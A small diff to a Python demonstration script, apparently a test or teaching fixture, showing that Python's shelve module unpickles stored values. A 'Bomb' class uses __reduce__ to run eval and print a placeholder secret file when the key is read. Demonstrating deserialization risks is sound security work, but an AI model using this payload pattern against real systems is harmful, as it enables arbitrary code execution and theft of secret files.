@@ -1,9 +1,8 @@
-"""A shelf is a file of pickles."""
+"""A shelf reads a pickle for every key that is asked for."""
 import shelve
 class Bomb:
     def __reduce__(self):
         return eval, ("print(open('@SECRET_FILE@').read())",)
-with shelve.open("shelf") as shelf:
-    shelf["x"] = Bomb()
-with shelve.open("shelf") as shelf:
-    shelf["x"]
+shelf = shelve.Shelf({})
+shelf["x"] = Bomb()
+shelf["x"]
